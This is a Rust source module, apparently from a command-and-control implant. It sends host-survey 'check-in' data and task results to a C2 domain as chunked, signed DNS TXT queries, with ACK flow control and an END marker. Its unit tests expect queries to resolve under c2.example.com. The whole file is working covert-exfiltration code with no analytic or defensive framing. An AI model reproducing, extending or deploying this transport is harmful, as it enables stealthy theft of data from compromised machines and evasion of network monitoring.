//! Outbound chunked transfer with synchronous ACK flow control.
//!
//! Payloads that do not fit in a single query label are fragmented and sent
//! as a sequence of independent queries, one label-sized fragment each. Flow
//! control is strictly synchronous: the sender blocks until the current
//! chunk is acknowledged with the literal TXT reply `ACK` before sending the
//! next one. Any other reply, or retry exhaustion, aborts the whole transfer
//! as failed; there is no partial resend and no resumption from a mid-point.
//! After the last data chunk the sender emits one terminal `END` fragment
//! and waits up to five seconds for its acknowledgement.
//!
//! A transfer session is ephemeral: it exists for the duration of one send
//! and is discarded on failure. The caller only learns success or failure.

use crate::channel::TxtQuery;
use crate::codec::{self, MAX_LABEL_LEN, RAW_CHUNK_SIZE};
use crate::session::AgentSession;

/// Expected acknowledgement reply for every chunk.
const ACK: &str = "ACK";

/// Terminal fragment marking end-of-transfer.
const LAST_CHUNK_MARKER: &str = "END";

/// Throttle between chunk transmissions.
const CHUNK_DELAY: std::time::Duration = std::time::Duration::from_millis(500);

/// Total window for the END marker acknowledgement.
const END_ACK_WINDOW: std::time::Duration = std::time::Duration::from_millis(5000);

/// Poll cadence inside the END acknowledgement window.
const END_ACK_POLL: std::time::Duration = std::time::Duration::from_millis(500);

/// Role of an outbound transfer; selects fragmenting and the prefix label.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TransferRole {
    /// Initial host-survey upload. The whole payload is safe-encoded once
    /// and the encoded string is split at the label limit.
    Checkin,
    /// Task result upload. The raw payload is split into fixed-size raw
    /// fragments first and each fragment is safe-encoded independently,
    /// which bounds the encoded label to the 63-octet limit.
    Result,
}

/// Builds the ordered data fragments for a transfer.
fn fragments(role: TransferRole, payload: &[u8]) -> Vec<String> {
    match role {
        TransferRole::Checkin => codec::safe_encode(payload)
            .as_bytes()
            .chunks(MAX_LABEL_LEN)
            .filter_map(|chunk| std::str::from_utf8(chunk).ok())
            .map(str::to_string)
            .collect(),
        TransferRole::Result => payload
            .chunks(RAW_CHUNK_SIZE)
            .map(codec::safe_encode)
            .collect(),
    }
}

/// Sends one fragment as an authenticated query and returns the TXT reply.
fn send_fragment<C: TxtQuery>(
    channel: &C,
    session: &mut AgentSession,
    prefix: &str,
    fragment: &str,
) -> Option<String> {
    let tsid = session.next_send_tsid();
    let tag = match crate::auth::sign(
        &tsid.to_string(),
        fragment,
        session.identity.shared_secret.as_bytes(),
    ) {
        Ok(tag) => tag,
        Err(err) => {
            log::error!("Cannot sign chunk: {}", err);
            return None;
        }
    };

    let name = codec::encode_query(prefix, fragment, &session.config.domain, &tsid, &tag);
    channel.query(&name)
}

/// Drives one complete outbound transfer.
///
/// Returns `true` only if every data chunk and the END marker were
/// acknowledged. On any failure the transfer is abandoned immediately; no
/// subsequent chunks are sent and the caller receives no partial-success
/// signal beyond the boolean.
pub fn send<C: TxtQuery>(
    channel: &C,
    session: &mut AgentSession,
    role: TransferRole,
    payload: &[u8],
) -> bool {
    let prefix = match role {
        TransferRole::Checkin => session.config.checkin_prefix.clone(),
        TransferRole::Result => session.config.poll_prefix.clone(),
    };

    let chunks = fragments(role, payload);
    let total = chunks.len();
    log::debug!("Transfer ({:?}): {} chunk(s), {} payload byte(s)", role, total, payload.len());

    for (number, fragment) in chunks.iter().enumerate() {
        match send_fragment(channel, session, &prefix, fragment) {
            Some(reply) if reply == ACK => {
                log::debug!("Chunk {}/{} ACKed", number + 1, total);
            }
            reply => {
                log::warn!(
                    "No ACK for chunk {}/{} (got {:?}), aborting transfer",
                    number + 1,
                    total,
                    reply
                );
                return false;
            }
        }

        std::thread::sleep(CHUNK_DELAY);
    }

    // Terminal marker: one additional fragment, its own 5 s ack window
    // polled at a fixed cadence instead of the generic retry policy.
    let tsid = session.next_send_tsid();
    let tag = match crate::auth::sign(
        &tsid.to_string(),
        LAST_CHUNK_MARKER,
        session.identity.shared_secret.as_bytes(),
    ) {
        Ok(tag) => tag,
        Err(err) => {
            log::error!("Cannot sign END marker: {}", err);
            return false;
        }
    };
    let end_query = codec::encode_query(
        &prefix,
        LAST_CHUNK_MARKER,
        &session.config.domain,
        &tsid,
        &tag,
    );

    let deadline = std::time::Instant::now() + END_ACK_WINDOW;
    loop {
        if let Some(reply) = channel.query(&end_query) {
            log::debug!("TXT reply for END: {}", reply);
            if reply == ACK {
                log::debug!("END ACKed, transfer complete");
                return true;
            }
        }

        if std::time::Instant::now() >= deadline {
            break;
        }
        std::thread::sleep(END_ACK_POLL);
    }

    log::warn!("Timeout waiting for END acknowledgement");
    false
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{AgentConfig, AgentIdentity};
    use base64::Engine;
    use std::cell::RefCell;
    use std::collections::VecDeque;

    /// Channel double replaying a fixed response script and recording every
    /// query name it is asked to resolve.
    struct ScriptedChannel {
        replies: RefCell<VecDeque<Option<String>>>,
        queries: RefCell<Vec<String>>,
    }

    impl ScriptedChannel {
        fn new(replies: Vec<Option<&str>>) -> Self {
            Self {
                replies: RefCell::new(
                    replies
                        .into_iter()
                        .map(|r| r.map(str::to_string))
                        .collect(),
                ),
                queries: RefCell::new(Vec::new()),
            }
        }

        fn queries(&self) -> Vec<String> {
            self.queries.borrow().clone()
        }
    }

    impl TxtQuery for ScriptedChannel {
        fn query(&self, name: &str) -> Option<String> {
            self.queries.borrow_mut().push(name.to_string());
            self.replies
                .borrow_mut()
                .pop_front()
                .unwrap_or(Some(ACK.to_string()))
        }
    }

    fn session() -> AgentSession {
        AgentSession::new(
            AgentIdentity::new(
                "eff1d21a-3fb3-434b-8db3-1f6f3510623b".to_string(),
                "test-key".to_string(),
            )
            .unwrap(),
            AgentConfig::default(),
        )
    }

    fn reassemble(fragments: &[String]) -> Vec<u8> {
        fragments
            .iter()
            .flat_map(|fragment| {
                base64::prelude::BASE64_URL_SAFE_NO_PAD
                    .decode(fragment)
                    .unwrap()
            })
            .collect()
    }

    #[test]
    fn result_fragments_round_trip() {
        for len in [0usize, 1, 44, 45, 46, 90, 137, 1024] {
            let payload: Vec<u8> = (0..len).map(|i| (i % 251) as u8).collect();
            let chunks = fragments(TransferRole::Result, &payload);
            assert!(chunks.iter().all(|c| c.len() <= MAX_LABEL_LEN));
            assert_eq!(reassemble(&chunks), payload);
        }
    }

    #[test]
    fn checkin_fragments_stay_within_label_limit() {
        let payload = vec![b'x'; 500];
        let chunks = fragments(TransferRole::Checkin, &payload);
        assert!(chunks.iter().all(|c| c.len() <= MAX_LABEL_LEN));

        // The concatenation is the sanitized encoding of the whole payload.
        let joined: String = chunks.concat();
        assert_eq!(
            base64::prelude::BASE64_URL_SAFE_NO_PAD
                .decode(joined)
                .unwrap(),
            payload
        );
    }

    #[test]
    fn transfer_succeeds_when_every_chunk_is_acked() {
        let channel = ScriptedChannel::new(vec![Some("ACK"), Some("ACK")]);
        let mut session = session();

        assert!(send(&channel, &mut session, TransferRole::Result, b"hello"));

        let queries = channel.queries();
        assert_eq!(queries.len(), 2);
        assert!(queries[0].starts_with("dash."));
        assert!(queries[1].contains(".END."));
        assert!(queries.iter().all(|q| q.ends_with(".c2.example.com")));
    }

    #[test]
    fn checkin_uses_the_checkin_prefix() {
        let channel = ScriptedChannel::new(vec![Some("ACK"), Some("ACK")]);
        let mut session = session();

        assert!(send(&channel, &mut session, TransferRole::Checkin, b"info"));
        assert!(channel.queries()[0].starts_with("app."));
    }

    #[test]
    fn non_ack_reply_aborts_before_further_chunks() {
        // Payload spans two raw fragments; the first reply is not an ACK.
        let payload = vec![b'a'; 90];
        let channel = ScriptedChannel::new(vec![Some("NACK")]);
        let mut session = session();

        assert!(!send(&channel, &mut session, TransferRole::Result, &payload));
        assert_eq!(channel.queries().len(), 1);
    }

    #[test]
    fn missing_reply_aborts_the_transfer() {
        let channel = ScriptedChannel::new(vec![None]);
        let mut session = session();

        assert!(!send(&channel, &mut session, TransferRole::Result, b"data"));
        assert_eq!(channel.queries().len(), 1);
    }

    #[test]
    fn empty_payload_sends_only_the_end_marker() {
        let channel = ScriptedChannel::new(vec![Some("ACK")]);
        let mut session = session();

        assert!(send(&channel, &mut session, TransferRole::Checkin, b""));

        let queries = channel.queries();
        assert_eq!(queries.len(), 1);
        assert!(queries[0].contains(".END."));
    }
}
